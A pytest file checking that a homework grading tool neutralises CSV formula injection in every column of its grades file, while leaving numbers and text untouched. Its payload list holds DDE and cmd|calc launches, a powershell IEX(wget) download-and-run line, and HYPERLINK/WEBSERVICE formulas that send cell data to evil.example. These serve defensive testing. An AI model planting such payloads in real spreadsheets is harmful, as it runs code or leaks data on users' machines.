"""CSV formula injection: no cell of a grades file is run as a formula when a spreadsheet opens it.

The corpus is typed the way attackers and students type: DDE and cmd| payloads, HYPERLINK, IMPORTXML,
WEBSERVICE and friends, with leading spaces, quotes, tabs, line breaks, full-width and small signs and
the minus sign. Each goes through `derive grade` end to end (a key made by `derive homework`) and
through the writer directly, in every column it can reach, and is read back with csv and pandas:
no cell starts with a formula trigger, a neutralised cell is the original with one leading ', and
plain numbers (-0.0286, -3, +1.5e-3) come back unchanged and still numbers. A LaTeX answer that starts
with - or + is not a number, so it is neutralised like any other text (its verdict is the judge's on
what the student typed).
"""

import csv
import json
import re
from pathlib import Path

import pandas
import pytest

from conftest import run_cli
from derive.documents.files import spreadsheet_safe
from derive.homework.grading import OUTPUT_COLUMNS, VERDICTS, Row, write_grades
from tests.redteam import Surface

# Cells a spreadsheet would evaluate: each must come back as "'" + the cell.
INJECTIONS = [
    '=HYPERLINK("http://evil.example/steal?d="&A1,"click")',
    '=HYPERLINK("http://evil","click")',
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/c powershell IEX(wget 0r.pe/p)'!A0",
    r"=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "@cmd|'/c calc'!_xlbgnm.A1",
    "=2*5+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A2), "//a")',
    '=IMPORTDATA("http://evil.example/x.csv")',
    '=IMPORTHTML("http://evil.example","table",1)',
    '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/abc","A1:B2")',
    '=IMAGE("http://evil.example/track.png")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=FILTERXML(WEBSERVICE("http://evil.example"),"//x")',
    "@SUM(A1)",
    "-2+3",
    "+2+3",
    "=1+1",
    "==1",
    "=- 3",
    "+ 1",
    "=SUM(A1:A10)",
    '+"hello"&CHAR(10)',
    " =1+1",
    '   =HYPERLINK("http://evil","x")',
    '"=1+1"',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " \t=1+1",
    "\tAlice",
    "\rAlice",
    "\u00a0=1+1",  # a no-break space, pasted from a web page
    "\u3000=1+1",  # an ideographic space
    "\u201c=1+1\u201d",  # typographic quotes
    '＝HYPERLINK("http://evil","x")',  # full-width signs
    "＋cmd|' /C calc'!A0",
    "－2+3",
    "＠SUM(A1)",
    "﹦1+1",  # small forms
    "\u22122+3",  # the minus sign
    "\u22120.5",
    "=1+1\n",
    '=HYPERLINK("http://evil","x")\r\nsecond line',
    "-inf",  # Python reads these as floats; a spreadsheet does not
    "+NaN",
    "-1_000",
    "-1,5",
]

# Answers students really write that begin like a formula: not numbers, so neutralised too.
DASHED_ANSWERS = [
    r"-\frac{1}{2}",
    r"-2 \left(a_{j}^{(2)} - y_{j}\right) \operatorname{softplus}'\!\left(z_{j}^{(2)}\right) a_{k}^{(1)}",
    r"- a_k^{(1)}",
    r"+2(a_j^{(2)}-y_j)\operatorname{softplus}'(z_j^{(2)}) a_k^{(1)}",
    "−0.02863",
]

# Cells that must come back exactly as they were.
NUMBERS = [
    "-0.0286",
    "-3",
    "+1.5e-3",
    "0.02863",
    "-0",
    "-.5",
    "-5.",
    "1e-3",
    "-2.5E+04",
    "42",
    "+7",
]
TEXTS = [
    "Ana María Pérez",
    "O'Brien",
    "d'Alembert",
    "李小龙",
    "  Bob",
    "bob@example.com",
    "x-y",
    "1-2",
    "0,0713",
    '"quoted" name',
    "Zoë 🙂",
    r"2 \left(a_{j}^{(2)} - y_{j}\right) \operatorname{softplus}'\!\left(z_{j}^{(2)}\right) a_{k}^{(1)}",
    r"\frac{\partial C_0}{\partial w_{jk}^{(2)}} = a_k^{(1)}",
    "a_{k}^{(1)}",
    "σ(z)(1 − σ(z))",
    r"\frac{1}{",
    "'=1+1",  # already marked as text, the spreadsheets' own way
]
LEGITIMATE = NUMBERS + TEXTS

# Attempts to leave the quoted cell: each must stay one cell, unchanged, with no row or cell added.
BREAKOUTS = [
    'Alice",=1+1,"',
    'Alice"\n=HYPERLINK("http://evil","x")',
    "ok\r\n=cmd|' /C calc'!A0",
    "a,=1+1",
    'x"\r\n"=1+1',
]
CORPUS = INJECTIONS + DASHED_ANSWERS + LEGITIMATE + BREAKOUTS

TRIGGERS = set("=+-@\t\r\n") | set("＝＋－＠﹦﹢﹣﹫−")
LEADING = ' \u00a0\u3000"\u201c\u201d'  # what a spreadsheet may skip before the trigger (tab, CR, LF are triggers)

REDTEAM = [
    Surface(
        surface="grades.csv cells",
        tried="formula injection (DDE, cmd|, HYPERLINK, IMPORTXML, WEBSERVICE; leading spaces, quotes, "
        "tabs, line breaks, full-width signs, minus sign) in every column, beside numbers and text",
        cases=len(CORPUS),
        limit="",
        holds="no cell starts with a formula trigger; neutralised = ' + original; numbers stay numbers",
    )
]


def is_plain_number(cell: str) -> bool:
    """A decimal number as a spreadsheet reads one (no inf, nan, underscores or commas)."""
    return re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", cell) is not None


def would_evaluate(cell: str) -> bool:
    """Whether a spreadsheet may read ``cell`` as a formula (a leading ' marks text)."""
    if is_plain_number(cell):
        return False
    return cell[:1] in TRIGGERS or cell.lstrip(LEADING)[:1] in TRIGGERS


def test_the_corpus_is_what_it_claims():
    assert len(INJECTIONS) >= 40 and len(LEGITIMATE) >= 15
    assert all(would_evaluate(cell) for cell in INJECTIONS + DASHED_ANSWERS)
    assert not any(would_evaluate(cell) for cell in LEGITIMATE + BREAKOUTS)
    assert all(is_plain_number(cell) for cell in NUMBERS)


@pytest.mark.parametrize("cell", INJECTIONS + DASHED_ANSWERS)
def test_a_formula_cell_gets_one_leading_quote(cell):
    assert spreadsheet_safe(cell) == "'" + cell
    assert not would_evaluate(spreadsheet_safe(cell))


@pytest.mark.parametrize("cell", LEGITIMATE + BREAKOUTS)
def test_numbers_and_text_stay_as_they_were(cell):
    assert spreadsheet_safe(cell) == cell


@pytest.mark.parametrize("cell", CORPUS)
def test_a_safe_cell_made_safe_again_is_the_same(cell):
    assert spreadsheet_safe(spreadsheet_safe(cell)) == spreadsheet_safe(cell)


def test_numbers_that_are_not_strings_are_untouched():
    assert spreadsheet_safe(-3) == -3 and spreadsheet_safe(-0.0286) == -0.0286


# The writer directly --------------------------------------------------------------------------------


def expected_cell(cell: str) -> str:
    return "'" + cell if would_evaluate(cell) else cell


def rows_for(cells: list[str]) -> list[Row]:
    """Each cell as student, version, question, answer and feedback, verdicts of each kind."""
    rows = []
    for n, cell in enumerate(cells):
        verdict = VERDICTS[n % len(VERDICTS)]
        rows.append(Row(n + 2, (cell, cell, cell, cell), verdict=verdict, feedback=cell))
    return rows


def read_back_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def read_back_pandas(path: Path) -> list[list[str]]:
    frame = pandas.read_csv(path, dtype=str, keep_default_na=False)
    assert list(frame.columns) == list(OUTPUT_COLUMNS)
    return frame.values.tolist()


@pytest.mark.parametrize("read_back", [read_back_csv, read_back_pandas], ids=["csv", "pandas"])
def test_the_writer_neutralises_every_column_and_keeps_the_rest(tmp_path, read_back):
    rows = rows_for(CORPUS)
    write_grades(tmp_path / "grades.csv", rows)
    table = read_back(tmp_path / "grades.csv")
    if read_back is read_back_csv:
        assert table[0] == list(OUTPUT_COLUMNS)
        table = table[1:]
    assert len(table) == len(CORPUS)  # nothing broke out into rows of its own
    for cell, row, written in zip(CORPUS, rows, table):
        assert len(written) == len(OUTPUT_COLUMNS), written
        assert written[:4] == [expected_cell(cell)] * 4
        assert written[4:] == [row.verdict, expected_cell(cell), str(int(row.verdict == "correct"))]
        assert not any(would_evaluate(value) for value in written), written


def test_pandas_reads_a_column_of_numeric_answers_as_numbers(tmp_path):
    rows = [
        Row(n + 2, (f"s{n}", "1", "q3", number), verdict="wrong", feedback="not the expected value")
        for n, number in enumerate(NUMBERS)
    ]
    write_grades(tmp_path / "grades.csv", rows)
    frame = pandas.read_csv(tmp_path / "grades.csv")
    assert frame["answer"].dtype.kind == "f"
    assert frame["answer"].tolist() == [float(number) for number in NUMBERS]
    assert frame["score"].dtype.kind == "i"
    with (tmp_path / "grades.csv").open(encoding="utf-8", newline="") as handle:
        assert [row["answer"] for row in csv.DictReader(handle)] == NUMBERS


# derive grade end to end ----------------------------------------------------------------------------
@pytest.fixture(scope="module")
def homework(tmp_path_factory) -> Path:
    """A homework set made by `derive homework` (the .tex and the key; no TeX run)."""
    out = tmp_path_factory.mktemp("csv-injection") / "hw"
    done = run_cli("homework", "--seed", "7", "--tex-only", "--no-check", "--out", str(out), "-q")
    assert done.returncode == 0, done.stderr
    return out


def test_derive_grade_writes_no_formula_and_judges_what_was_typed(tmp_path, homework):
    from derive.homework.answers import judge_here
    from derive.homework.questions import load_key

    key = json.loads((homework / "version-1" / "key.json").read_text(encoding="utf-8"))
    gradient = next(q for q in key["questions"] if q["kind"] == "weight-gradient")
    numeric = next(q for q in key["questions"] if q["kind"] == "numeric-gradient")
    given = []  # (student, version, question, answer) as typed
    for cell in INJECTIONS + BREAKOUTS + TEXTS:
        given.append(
            (cell, "1", gradient["id"], gradient["answer_latex"])
        )  # the name is the payload
    for cell in INJECTIONS + DASHED_ANSWERS + BREAKOUTS:
        given.append(("mallory", "1", gradient["id"], cell))  # the answer is the payload
    given += [("mallory", cell, gradient["id"], "x") for cell in INJECTIONS[:10]]
    given += [("mallory", "1", cell, "x") for cell in INJECTIONS[:10]]
    given += [(f"s{n}", "1", numeric["id"], number) for n, number in enumerate(NUMBERS)]
    given.append(("key", "1", numeric["id"], numeric["answer_latex"]))
    answers = tmp_path / "answers.csv"
    with answers.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["student", "version", "question", "answer"])
        writer.writerows(given)

    done = run_cli(
        "grade", str(homework), str(answers), "--out", str(tmp_path / "grades.csv"), "--jobs", "2"
    )
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr

    for table in (
        read_back_csv(tmp_path / "grades.csv")[1:],
        read_back_pandas(tmp_path / "grades.csv"),
    ):
        assert len(table) == len(given)
        for typed, written in zip(given, table):
            assert written[:4] == [expected_cell(cell) for cell in typed], (typed, written)
            assert written[4] in VERDICTS and written[6] == str(int(written[4] == "correct"))
            assert not any(would_evaluate(value) for value in written), written

    rows = read_back_csv(tmp_path / "grades.csv")[1:]
    names = len(INJECTIONS + BREAKOUTS + TEXTS)
    assert all(
        row[4] == "correct" for row in rows[:names]
    )  # a payload in the name changes no verdict
    questions = load_key(homework / "version-1" / "key.json")
    for typed, row in zip(given[names : names + len(INJECTIONS + DASHED_ANSWERS)], rows[names:]):
        verdict = judge_here(
            typed[3].strip(), questions[gradient["id"]].expected()
        )  # the judge saw what was typed
        assert row[4] == getattr(verdict.status, "value", verdict.status), (typed, row)
    numbers = rows[-len(NUMBERS) - 1 : -1]
    assert [row[3] for row in numbers] == NUMBERS and all(
        isinstance(float(row[3]), float) for row in numbers
    )
    assert rows[-1][3:5] == [
        numeric["answer_latex"],
        "correct",
    ]  # the key's own number: unchanged, correct
